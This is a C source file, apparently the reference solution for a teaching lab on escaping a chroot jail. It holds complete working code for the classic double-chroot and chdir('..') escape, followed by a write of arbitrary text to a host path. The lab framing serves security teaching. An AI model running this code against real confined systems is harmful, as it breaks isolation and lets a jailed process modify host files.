/* Lab 2: break out of a chroot — the reference solution.
 *
 * Build:  gcc -static -o jail/escape escape.c      (static: the jail holds no C library)
 * Run:    chroot jail /escape /ABSOLUTE/PATH/ON/THE/HOST TEXT
 * It tries to leave the chroot, then writes TEXT to PATH — inside the jail, unless it got
 * out. It prints `chroot=` (0, or the errno of its chroot() call), `wrote=` (0 or errno),
 * then waits until its input closes (Ctrl-D), so that you can look at it from the host.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Returns 0 when the chroot() into a new directory succeeded, else its errno; -1 when it
 * did not try. */
static int break_out(void) {
    if (mkdir("breakout", 0755) != 0 && errno != EEXIST)
        return errno;
    /* The working directory stays where it is: outside the new root. */
    if (chroot("breakout") != 0)
        return errno;
    /* ".." stops only at the process's root, or at the root of its mount namespace; this
     * working directory is below neither, so it climbs to the real /. */
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        return errno;
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s PATH TEXT\n", argv[0]);
        return 2;
    }
    int tried = break_out();
    if (tried < 0)
        printf("chroot=none\n");
    else
        printf("chroot=%d\n", tried);
    FILE *out = fopen(argv[1], "w");
    int wrote = out != NULL && fprintf(out, "%s\n", argv[2]) > 0;
    if (out != NULL && fclose(out) != 0)
        wrote = 0;
    printf("wrote=%d\n", wrote ? 0 : errno);
    printf("ready=1\n");
    fflush(stdout);
    while (getchar() != EOF) {
    }
    return 0;
}
